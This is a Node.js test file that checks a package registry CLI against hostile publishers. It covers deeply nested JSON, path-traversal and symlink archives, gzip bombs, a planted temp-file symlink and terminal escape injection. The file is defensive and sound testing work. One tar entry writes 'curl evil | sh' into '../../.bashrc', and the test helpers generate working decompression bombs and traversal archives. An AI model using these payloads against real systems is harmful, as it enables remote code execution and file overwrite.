// The registry attacked by a hostile publisher (issue 11, items 3, 7, 8, 9, 16, 22), through the
// real `mcpc registry` command (MCPC_BIN): a 100,000-deep manifest, duplicate keys, `LATEST`,
// archives declared as plain files carrying ../ entries and a symlink to /etc/passwd, nested and
// high-ratio gzip bombs, a symlink planted in `get --output`'s directory, terminal escapes in
// published text. Each attack must be refused (or defused) by an exit, never a crash, within a
// stated time and peak RSS; afterwards the same registry still publishes, hands out and verifies
// a good package, and no temp file is left behind. Archives are built here with Node built-ins
// (hand-written tar headers, zlib). Finer cases are GoogleTests in tests/registry.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { createGzip, gzipSync } from 'node:zlib';

const mcpcBin = process.env.MCPC_BIN || new URL('../../build/bin/mcpc', import.meta.url).pathname;
// What one refused publish may cost at most. Measured on the dev build: at most 0.3 s and 14 MiB
// (the ratio bomb stops after 64 MiB unpacked, read in 64 KiB blocks); the margin is for
// sanitizer builds and loaded machines.
const kMaxSeconds = 5;
const kMaxRssMiB = 128;

let work, root;
let packages = 0;
before(() => {
  work = mkdtempSync(join(tmpdir(), 'mcpc-hostile-registry-'));
  root = join(work, 'registry');
});
after(() => rmSync(work, { recursive: true, force: true }));

/// Runs `mcpc registry --root ROOT args…`; resolves { code, signal, out, err, seconds, peakRssMiB }.
/// The peak RSS is the process's VmHWM, sampled from /proc every few milliseconds.
function mcpc(args, { env } = {}) {
  return new Promise((resolve) => {
    const started = process.hrtime.bigint();
    const child = spawn(mcpcBin, ['registry', '--root', root, ...args], {
      stdio: ['ignore', 'pipe', 'pipe'], env: env ? { ...process.env, ...env } : process.env });
    let out = '', err = '', peakKiB = 0;
    child.stdout.on('data', (d) => { out += d; });
    child.stderr.on('data', (d) => { err += d; });
    const sample = () => {
      try {
        const m = /VmHWM:\s+(\d+) kB/.exec(readFileSync(`/proc/${child.pid}/status`, 'utf8'));
        if (m) peakKiB = Math.max(peakKiB, Number(m[1]));
      } catch { /* already gone */ }
    };
    const timer = setInterval(sample, 5);
    child.on('exit', (code, signal) => {
      clearInterval(timer);
      child.on('close', () => resolve({ code, signal, out, err, seconds: Number(process.hrtime.bigint() - started) / 1e9,
        peakRssMiB: peakKiB / 1024 }));
    });
  });
}

// ---- building packages ------------------------------------------------------------------

/// A tar member header (ustar): `type` '0' file, '2' symlink, '5' directory.
function tarHeader(name, size, { type = '0', link = '' } = {}) {
  const h = Buffer.alloc(512);
  h.write(name, 0, 100, 'utf8');
  h.write('0000644\0', 100);
  h.write('0000000\0', 108);
  h.write('0000000\0', 116);
  h.write(size.toString(8).padStart(11, '0') + '\0', 124);
  h.write('00000000000\0', 136);
  h.write('        ', 148);
  h.write(type, 156);
  h.write(link, 157, 100, 'utf8');
  h.write('ustar\0' + '00', 257, 'latin1');
  let sum = 0;
  for (const b of h) sum += b;
  h.write(sum.toString(8).padStart(6, '0') + '\0 ', 148, 'latin1');
  return h;
}
/// A tar of `members` ({ name, data } files or { name, symlink } links), written as given.
function tar(members) {
  const parts = [];
  for (const m of members) {
    if (m.symlink !== undefined) {
      parts.push(tarHeader(m.name, 0, { type: '2', link: m.symlink }));
      continue;
    }
    const data = Buffer.from(m.data);
    parts.push(tarHeader(m.name, data.length), data, Buffer.alloc((512 - (data.length % 512)) % 512));
  }
  parts.push(Buffer.alloc(1024));
  return Buffer.concat(parts);
}
/// gzip of a tar holding one file of `bytes` zero bytes (a multiple of 512), streamed.
async function tarGzOfZeros(bytes) {
  const gz = createGzip({ level: 9 });
  const out = [];
  gz.on('data', (d) => out.push(d));
  const done = new Promise((res, rej) => { gz.on('end', res); gz.on('error', rej); });
  const write = (b) => new Promise((res) => { if (gz.write(b)) res(); else gz.once('drain', res); });
  await write(tarHeader('zeros', bytes));
  const zeros = Buffer.alloc(1 << 20);
  for (let left = bytes; left > 0; left -= zeros.length) await write(left >= zeros.length ? zeros : zeros.subarray(0, left));
  await write(Buffer.alloc(1024));
  gz.end();
  await done;
  return Buffer.concat(out);
}

const sha256 = (buf) => createHash('sha256').update(buf).digest('hex');

/// Writes DIR/manifest.json naming `files` ({ name: bytes }) with correct sizes and digests, each
/// declared with `role`/`mediaType` (default: a plain file); `extra` is merged into the manifest.
function writePackage(files, { name, version = '1.0.0', role = 'file', mediaType = 'application/octet-stream',
  extra = {} } = {}) {
  const dir = join(work, `pkg${packages++}`);
  mkdirSync(dir, { recursive: true });
  const artifacts = Object.entries(files).map(([file, bytes]) => {
    writeFileSync(join(dir, file), bytes);
    return { role, file, size: bytes.length, sha256: sha256(bytes), media_type: mediaType };
  });
  const manifest = { format: 'mcpc-manifest/1', name, version, ...extra, artifacts };
  writeFileSync(join(dir, 'manifest.json'), JSON.stringify(manifest));
  return { dir, manifest: join(dir, 'manifest.json') };
}

function tempFiles() {
  const tmp = join(root, 'tmp');
  return existsSync(tmp) ? readdirSync(tmp) : [];
}

/// The registry still works: a good package publishes, comes back byte for byte, and verify is
/// clean; no temp file is left.
async function assertRegistryWorks(after) {
  const name = `good-${packages}`;
  const tgz = gzipSync(tar([{ name: 'bin/server', data: `#!/bin/sh\necho ${name}\n` }]));
  const pkg = writePackage({ [`${name}.tgz`]: tgz }, { name, role: 'tarball', mediaType: 'application/gzip',
    extra: { title: 'Good', description: 'A good package' } });
  let r = await mcpc(['publish', pkg.manifest]);
  assert.equal(r.code, 0, `${after}: publishing a good package failed: ${r.err}`);
  const out = join(work, `out${packages++}`);
  r = await mcpc(['get', name, '--output', out]);
  assert.equal(r.code, 0, `${after}: get failed: ${r.err}`);
  assert.deepEqual(readFileSync(join(out, `${name}.tgz`)), tgz, `${after}: the package came back different`);
  r = await mcpc(['verify', '--json']);
  assert.equal(r.code, 0, `${after}: verify: ${r.out}`);
  assert.equal(JSON.parse(r.out).clean, true, `${after}: verify: ${r.out}`);
  assert.deepEqual(tempFiles(), [], `${after}: temp files left in ROOT/tmp`);
}

/// An attack that must end in a refusal: exit 1 (never a signal), `needle` in the message, within
/// the time and memory bounds, and the registry working afterwards.
async function assertRefused(what, manifest, needle) {
  const r = await mcpc(['publish', manifest]);
  assert.equal(r.signal, null, `${what}: mcpc died of ${r.signal}: ${r.err}`);
  assert.equal(r.code, 1, `${what}: exit ${r.code}: ${r.out}${r.err}`);
  assert.match(r.err, needle, what);
  assert.ok(r.seconds < kMaxSeconds, `${what}: took ${r.seconds.toFixed(2)} s (bound ${kMaxSeconds} s)`);
  assert.ok(r.peakRssMiB < kMaxRssMiB, `${what}: peak RSS ${r.peakRssMiB.toFixed(1)} MiB (bound ${kMaxRssMiB} MiB)`);
  console.log(`# ${what}: refused in ${r.seconds.toFixed(2)} s, peak RSS ${r.peakRssMiB.toFixed(1)} MiB`);
  await assertRegistryWorks(what);
  return r;
}

// ---- the attacks ------------------------------------------------------------------------------

test('a manifest nested 100,000 deep is refused, not a crash (item 3)', async () => {
  const pkg = writePackage({}, { name: 'deep' });
  const text = readFileSync(pkg.manifest, 'utf8');
  writeFileSync(pkg.manifest, text.slice(0, -1) + ',"deep":' + '['.repeat(100_000) + ']'.repeat(100_000) + '}');
  await assertRefused('100,000-deep manifest', pkg.manifest, /nested deeper than 128 levels/);
});

test('a server.json nested 100,000 deep leaves no temp file (item 3)', async () => {
  const deep = Buffer.from('{"name":"io.x/deep","x":' + '['.repeat(100_000) + ']'.repeat(100_000) + '}');
  const tgz = gzipSync(tar([{ name: 'bin/server', data: 'x' }]));
  const pkg = writePackage({ 'a.tgz': tgz, 'server.json': deep }, { name: 'deep-server-json' });
  const m = JSON.parse(readFileSync(pkg.manifest, 'utf8'));
  m.artifacts[1].role = 'server.json';
  writeFileSync(pkg.manifest, JSON.stringify(m));
  await assertRefused('100,000-deep server.json', pkg.manifest, /nested deeper than 128 levels/);
});

test('duplicate keys and LATEST are refused (item 22)', async () => {
  const pkg = writePackage({}, { name: 'dup' });
  writeFileSync(pkg.manifest, '{"name":"dup","version":"1.0.0","name":"someone-else"}');
  await assertRefused('duplicate key', pkg.manifest, /"name" twice/);
  const latest = writePackage({}, { name: 'upper', version: 'LATEST' });
  await assertRefused('version LATEST', latest.manifest, /reserved/);
});

test('archives declared as plain files are checked by their bytes (item 7)', async () => {
  const dotdot = writePackage({ 'payload.bin': gzipSync(tar([{ name: 'bin/server', data: 'ok' },
    { name: '../../.bashrc', data: 'curl evil | sh\n' }])) }, { name: 'evil-dotdot' });
  await assertRefused('a tar.gz with ../ declared role file', dotdot.manifest, /refusing archive .*'\.\.' component/);
  const link = writePackage({ 'data': tar([{ name: 'passwd', symlink: '/etc/passwd' }, { name: 'bin/server', data: 'ok' }]) },
    { name: 'evil-symlink' });
  await assertRefused('a plain tar with a symlink to /etc/passwd declared role file', link.manifest,
    /refusing archive .*symlink .* is absolute/);
});

test('decompression bombs are refused early, in bounded time and memory (item 16)', async () => {
  // 256 MiB of zeros: about 250 KB as tar.gz (a ratio near 1000).
  const ratio = await tarGzOfZeros(256 << 20);
  const single = writePackage({ 'big.tgz': ratio }, { name: 'ratio-bomb', role: 'tarball', mediaType: 'application/gzip' });
  await assertRefused('a tar.gz with a ratio near 1000', single.manifest, /times its/);
  // The same inside two more gzip layers: a few KB.
  const nested = gzipSync(gzipSync(ratio, { level: 9 }), { level: 9 });
  assert.ok(nested.length < 16 * 1024, `nested bomb is ${nested.length} bytes`);
  const pkg = writePackage({ 'bomb.bin': nested }, { name: 'nested-bomb' });
  await assertRefused('gzip(gzip(tar.gz of 256 MiB of zeros))', pkg.manifest, /compressed 3 times over/);
});

test('get --output writes through no symlink planted in its directory (item 8)', async () => {
  const bytes = gzipSync(tar([{ name: 'bin/server', data: 'the real bytes' }]));
  const pkg = writePackage({ 'srv.tgz': bytes }, { name: 'planted', role: 'tarball', mediaType: 'application/gzip' });
  assert.equal((await mcpc(['publish', pkg.manifest])).code, 0);
  const out = join(work, 'shared-out');
  const victim = join(work, 'victim-bashrc');
  mkdirSync(out, { recursive: true });
  writeFileSync(victim, 'original\n');
  symlinkSync(victim, join(out, 'srv.tgz.mcpc-tmp'));  // the temp name the old code used
  const r = await mcpc(['get', 'planted', '--output', out]);
  assert.equal(r.code, 0, r.err);
  assert.equal(readFileSync(victim, 'utf8'), 'original\n');
  assert.deepEqual(readFileSync(join(out, 'srv.tgz')), bytes);
  assert.ok(!lstatSync(join(out, 'srv.tgz')).isSymbolicLink());
  await assertRegistryWorks('a planted symlink');
});

test('published titles and descriptions reach the terminal escaped (item 9)', async () => {
  const title = 'Weather\u001b]0;owned\u0007\u001b[2J';
  const description = 'Forecasts\rFAKE LINE \u001b[31m \u009b31m \u202eesrever';
  const pkg = writePackage({ 'w.tgz': gzipSync(tar([{ name: 'bin/server', data: 'w' }])) },
    { name: 'weather', role: 'tarball', mediaType: 'application/gzip', extra: { title, description } });
  assert.equal((await mcpc(['publish', pkg.manifest])).code, 0);
  for (const args of [['get', 'weather'], ['list'], ['search', 'forecasts'], ['get', 'weather', '--json']]) {
    const r = await mcpc(args);
    assert.equal(r.code, 0, `${args.join(' ')}: ${r.err}`);
    assert.doesNotMatch(r.out, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/u, `${args.join(' ')} printed a control character:\n${r.out}`);
    assert.match(r.out, /weather/);
  }
  const json = JSON.parse((await mcpc(['get', 'weather', '--json'])).out);
  assert.equal(json.title, title);
  assert.equal(json.description, description);
  await assertRegistryWorks('terminal escapes');
});
